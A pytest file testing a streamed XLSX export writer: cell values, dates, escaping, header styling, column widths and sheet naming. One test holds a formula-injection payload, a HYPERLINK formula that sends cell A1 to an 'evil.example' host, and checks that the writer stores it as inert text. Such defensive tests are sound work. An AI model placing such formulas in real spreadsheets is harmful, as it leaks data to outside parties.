"""The streamed XLSX writer (`supervision.xlsx`), as plain Python: what a spreadsheet reads
back from it, and that it hands out the file while it is still reading rows."""

import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from supervision import xlsx


def read(pieces) -> bytes:
    return b"".join(pieces)


@pytest.mark.parametrize(
    ("index", "letters"), [(0, "A"), (13, "N"), (25, "Z"), (26, "AA"), (701, "ZZ"), (702, "AAA")]
)
def test_column_letters(index, letters):
    assert xlsx.column_letters(index) == letters


def test_a_spreadsheet_reads_back_text_dates_numbers_and_empty_cells():
    rows = [
        ["工号", "姓名", "发证", "时间", "数量", "比例", "是否"],
        ["E001", "林晓雯", date(2026, 11, 30), datetime(2026, 11, 30, 8, 30), 3, 0.5, True],
        ["E002", "", None, None, 0, -1.25, False],
        ["E003", "  前后有空格 ", date(1900, 3, 1), None, "", "", ""],
    ]
    sheet = load_workbook(io.BytesIO(read(xlsx.stream(rows, sheet_name="前台认证")))).active
    assert sheet.title == "前台认证"
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == rows[0]
    assert values[1] == [
        "E001",
        "林晓雯",
        datetime(2026, 11, 30),
        datetime(2026, 11, 30, 8, 30),
        3,
        0.5,
        True,
    ]
    assert values[2] == ["E002", None, None, None, 0, -1.25, False]
    assert values[3][:3] == ["E003", "  前后有空格 ", datetime(1900, 3, 1)]
    assert sheet["C2"].number_format == "yyyy-mm-dd"  # shown as a date, not a number


def test_text_is_never_a_formula_or_an_error_and_xml_is_escaped():
    rows = [['=HYPERLINK("http://evil.example/?"&A1;"click")', "#N/A", "<b>&amp;</b>", "a\x07b"]]
    data = read(xlsx.stream(rows, sheet_name="x"))
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and 't="e"' not in sheet_xml
    cells = load_workbook(io.BytesIO(data)).active[1]
    assert [c.value for c in cells] == [rows[0][0], "#N/A", "<b>&amp;</b>", "ab"]
    assert all(c.data_type == "s" for c in cells)


def test_a_sheet_name_with_xml_characters():
    data = read(xlsx.stream([["a"]], sheet_name='A&B "前台" <1>'))
    assert load_workbook(io.BytesIO(data)).active.title == 'A&B "前台" <1>'


def test_pieces_leave_while_rows_are_still_being_read():
    read_so_far = []

    def rows():
        for n in range(5 * xlsx.ROWS_PER_CHUNK):
            read_so_far.append(n)
            yield [f"E{n:05d}", "林晓雯", date(2026, 1, 1)]

    pieces = xlsx.stream(rows(), sheet_name="x")
    first = next(pieces)
    assert first.startswith(b"PK") and len(read_so_far) < 5 * xlsx.ROWS_PER_CHUNK
    data = first + read(pieces)
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    assert sum(1 for _ in sheet.iter_rows()) == 5 * xlsx.ROWS_PER_CHUNK


def test_the_header_is_frozen_filtered_and_bold_and_the_columns_fit_their_content():
    rows = [
        ["工号", "姓名", "颁发日期", "验证链接"],
        [
            "E001",
            "欧阳慧敏",
            date(2026, 11, 30),
            "http://localhost:8000/verify/NLQ42SZ9U4NC6UDYGK2AUG89LT/",
        ],
        ["E002", "张伟", date(2026, 1, 2), ""],
    ]
    sheet = load_workbook(io.BytesIO(read(xlsx.stream(rows, sheet_name="前台认证")))).active
    assert sheet.freeze_panes == "A2"  # the header stays in view
    assert sheet.auto_filter.ref == "A1:D3"  # every row, every column
    assert sheet["A1"].font.b and not sheet["A2"].font.b
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCD"}
    # "欧阳慧敏" is four wide characters: wider than "工号" and "E001", so column B is wider
    # than A; a date needs ten digits; the link is the widest text, its column the widest.
    assert widths["A"] < widths["B"] and widths["B"] >= 8 + 2
    assert widths["C"] >= 10
    assert widths["D"] == max(widths.values()) >= len(rows[1][3])
    assert sheet["C2"].is_date and sheet["C2"].value == datetime(2026, 11, 30)


def test_a_column_is_never_wider_than_the_limit_nor_narrower_than_a_header_and_its_button():
    rows = [["号", "备注"], ["1", "很长" * 100]]
    sheet = load_workbook(io.BytesIO(read(xlsx.stream(rows, sheet_name="x")))).active
    assert sheet.column_dimensions["A"].width == xlsx.NARROWEST
    assert sheet.column_dimensions["B"].width == xlsx.WIDEST


def test_one_sheet_per_program_each_with_its_own_rows_header_and_filter():
    def rows(name, n):
        yield ["工号", "认证项目", "截止"]
        for i in range(n):
            yield [f"E{i:03d}", name, date(2026, 12, i + 1)]

    sheets = [
        xlsx.Sheet("前台客服上岗认证", rows("前台客服上岗认证", 3)),
        xlsx.Sheet("投诉处理认证", rows("投诉处理认证", 1)),
    ]
    workbook = load_workbook(io.BytesIO(read(xlsx.stream_sheets(sheets))))
    assert workbook.sheetnames == ["前台客服上岗认证", "投诉处理认证"]
    first, second = workbook.worksheets
    assert [row[1] for row in first.iter_rows(min_row=2, values_only=True)] == [
        "前台客服上岗认证"
    ] * 3
    assert list(second.iter_rows(min_row=2, values_only=True)) == [
        ("E000", "投诉处理认证", datetime(2026, 12, 1))
    ]
    assert (first.auto_filter.ref, second.auto_filter.ref) == ("A1:C4", "A1:C2")
    assert first.freeze_panes == second.freeze_panes == "A2"


def test_sheet_names_follow_excels_rules():
    names = xlsx.sheet_names(
        ["前台/客服: [A]*?", "x" * 40, "'引号'", "", "前台认证", "前台认证", "ABC", "abc"]
    )
    assert names == [
        "前台_客服_ _A___",
        "x" * 31,
        "引号",
        "-",
        "前台认证",
        "前台认证 (2)",
        "ABC",
        "abc (2)",
    ]
    long = xlsx.sheet_names(["y" * 40, "y" * 40])
    assert long == ["y" * 31, "y" * 27 + " (2)"] and all(len(n) <= 31 for n in long)
    # Excel opens the file with these names (openpyxl refuses what Excel refuses).
    data = read(xlsx.stream_sheets([xlsx.Sheet(n, [["a"]]) for n in ["a/b", "a_b", "A_B"]]))
    assert load_workbook(io.BytesIO(data)).sheetnames == ["a_b", "a_b (2)", "A_B (3)"]
